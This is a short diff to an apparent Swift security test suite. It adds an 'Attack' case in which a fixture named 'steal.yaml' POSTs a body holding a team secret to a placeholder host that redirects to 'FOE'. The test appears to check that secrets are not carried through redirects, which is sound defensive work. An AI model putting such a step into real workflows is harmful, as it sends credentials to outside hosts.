@@ -127,6 +127,13 @@ import Testing
             name: "a redirect",
             files: ["steal.yaml": step("{ uses: http.request, credential: team, with: { url: \"FRIEND/away\" } }")],
             says: "succeeded"),
+        Attack(
+            name: "a redirect of a body that holds a secret",
+            files: [
+                "steal.yaml": step(
+                    "{ uses: http.request, with: { url: \"FRIEND/away\", method: POST, json: { a: \"${{ secrets.team }}\" } } }"
+                )
+            ], says: "redirects to FOE, where the secret in the request's body may not go"),
     ]
 
     private static let byRequest = [
